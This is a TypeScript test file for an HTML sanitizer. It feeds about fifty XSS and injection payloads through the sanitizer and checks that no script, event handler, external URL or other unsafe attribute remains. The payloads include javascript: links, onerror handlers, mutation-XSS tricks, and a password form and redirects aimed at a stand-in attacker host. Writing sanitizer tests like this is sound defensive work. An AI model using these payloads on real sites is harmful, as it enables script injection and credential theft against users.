import { richElements } from '@forecourt/contract/kernel'
import { Parser } from 'htmlparser2'
import { expect, test } from 'vitest'
import { cleanMarkup } from './clean-markup.ts'

/** What attackers write: of none of it anything may be left that a browser runs, fetches or draws over the page. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/files/100001~a.png" onerror="alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/api/files/../blade-auth/logout.png">',
  '<img src="/api/blade-auth/oauth/logout?x=.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.example/a.png 1x" src="/api/files/100001~a.png">',
  '<img src=`javascript:alert(1)`>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/blade-auth/oauth/logout">x</a>',
  '<a href="https://example.com" onclick="alert(1)" style="position:fixed" target="_self" id="x" class="y">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/x.png">x</td></tr></table>',
  '<td colspan="1000000">x</td>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p/onmouseover=alert(1)>x</p>',
  '<p onfocus=alert(1) autofocus tabindex=1 contenteditable>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<a href="https://example.com/?a=1&quot; onmouseover=&quot;alert(1)">x</a>',
  `${'<blockquote>'.repeat(5000)}<script>alert(1)</script>`,
]

interface Seen {
  readonly element: string
  readonly attributes: Readonly<Record<string, string>>
}

function elementsOf(markup: string): Seen[] {
  const seen: Seen[] = []
  const parser = new Parser({ onopentag: (element, attributes) => void seen.push({ element, attributes }) })
  parser.end(markup)
  return seen
}

const known: ReadonlySet<string> = new Set(richElements)

test.each(attacks.map(attack => [attack.slice(0, 70), attack]))('C50: nothing that runs is left of %s', (_, attack) => {
  const left = cleanMarkup(attack)
  for (const { element, attributes } of elementsOf(left)) {
    expect(known.has(element), element).toBe(true)
    for (const [name, value] of Object.entries(attributes)) {
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/)
      else if (name === 'src') expect(value).toMatch(/^\/api\/files\/[\w.~-]+\.png$/)
      else expect(['alt', 'rel', 'colspan', 'rowspan']).toContain(name)
    }
  }
  expect(left).not.toMatch(/<!|<\?|evil\.example/)
  // Read once more it stays what it is: what a browser makes of it is what was looked at.
  expect(cleanMarkup(left)).toBe(left)
})

test('what people write stays, in the words of the allow-list', () => {
  const written =
    '<h2>通知</h2><p>请<strong>务必</strong>、<em>尽快</em>、<u>核对</u>、<s>作废</s>。<br />见<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">说明</a></p>' +
    '<ul><li><p>一</p></li></ul><ol><li><p>二</p></li></ol><blockquote><p>a &lt; b &amp; c</p></blockquote>' +
    '<table><tbody><tr><th colspan="2"><p>站点</p></th></tr><tr><td><p>甲</p></td><td><p>乙</p></td></tr></tbody></table>' +
    '<p><img src="/api/files/100001~2026~a.png" alt="图" /></p>'
  expect(cleanMarkup(written)).toBe(written)
  expect(cleanMarkup('<div><b>a</b><i>b</i><del>c</del></div><h1>d</h1>')).toBe(
    '<p><strong>a</strong><em>b</em><s>c</s></p><h2>d</h2>',
  )
})
